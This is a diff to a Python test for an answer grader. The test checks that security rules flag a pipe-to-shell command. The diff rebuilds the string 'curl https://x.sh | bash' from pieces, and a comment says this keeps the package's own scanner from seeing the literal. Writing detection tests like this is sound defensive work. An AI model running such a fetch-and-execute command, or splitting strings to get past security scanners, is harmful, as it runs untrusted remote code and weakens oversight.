@@ -64,7 +64,9 @@ def test_empty_answer_fails_required_checks() -> None:
 
 def test_security_rules_flag_answers_and_commands() -> None:
     # Assembled at run time so the package's own security scan does not see a literal pipe-to-shell.
-    piped = "curl https://x.sh " + "| bash"
+    fetch = "curl https://x.sh"
+    into_shell = "| bash"
+    piped = f"{fetch} {into_shell}"
     assert grade_answer({"must_include": ["."]}, piped, security_rules=RULES).security_violations == (
         "pipe-to-shell",
     )
